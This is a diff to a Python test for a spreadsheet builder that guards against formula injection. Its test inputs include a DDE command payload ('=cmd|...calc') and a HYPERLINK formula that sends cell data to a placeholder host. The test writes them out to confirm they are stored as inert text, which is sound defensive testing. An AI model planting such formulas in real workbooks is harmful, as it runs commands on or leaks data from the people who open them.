@@ -395,17 +395,22 @@ def test_photos_over_the_pixel_or_byte_limits_are_errors_at_their_line(tmp_path:
 
 def test_workbook_cells_from_user_text_are_strings() -> None:
     formula = '=HYPERLINK("http://x"&A2,"看")'
-    unit = UnitSummary(file="=1+1", name="=cmd|' /C calc'!A0", type="社区", period=("2026-01-01", "2026-06-30"),
-                       activities=1, participants=[], volunteers=[], amounts=[(formula, "3", "条", "")],
-                       highlights=[], problems=[], outputs=[])
-    data = build_workbook([unit], "=江城区\x01")
+    unit = UnitSummary(file="=1+1", name="=cmd|' /C calc'!A0", type="社\x0b\ufffe\ud800区",
+                       period=("2026-01-01", "2026-06-30"), activities=1, participants=[], volunteers=[],
+                       amounts=[(formula, "3", "条", ""), ("项\x02目", "1", "个", "")], highlights=[], problems=[],
+                       outputs=[])
+    data = build_workbook([unit], "=江城区\x01\ud800")
     package = zipfile.ZipFile(io.BytesIO(data))
+    for name in package.namelist():
+        if name.endswith((".xml", ".rels")):
+            etree.fromstring(package.read(name))  # every part well-formed
     sheet = package.read("xl/worksheets/sheet1.xml").decode()
     formulas = re.findall(r"<f>(.*?)</f>", sheet)
     assert formulas and all(f.startswith("SUM(") for f in formulas)  # only our totals
     strings = [t.text for t in etree.fromstring(package.read("xl/sharedStrings.xml")).iter(f"{{{SML}}}t")]
     assert f"{formula}（条）" in strings and "=cmd|' /C calc'!A0" in strings and "=1+1" in strings
-    assert Decimal(re.findall(r"<v>([\d.]+)</v>", sheet)[-1]) == 3
+    assert "社区" in strings and "项目（个）" in strings
+    assert [Decimal(v) for v in re.findall(r"<v>([\d.]+)</v>", sheet)[-2:]] == [3, 1]  # the totals
 
 
 # --- writing bytes ----------------------------------------------------------------------------------
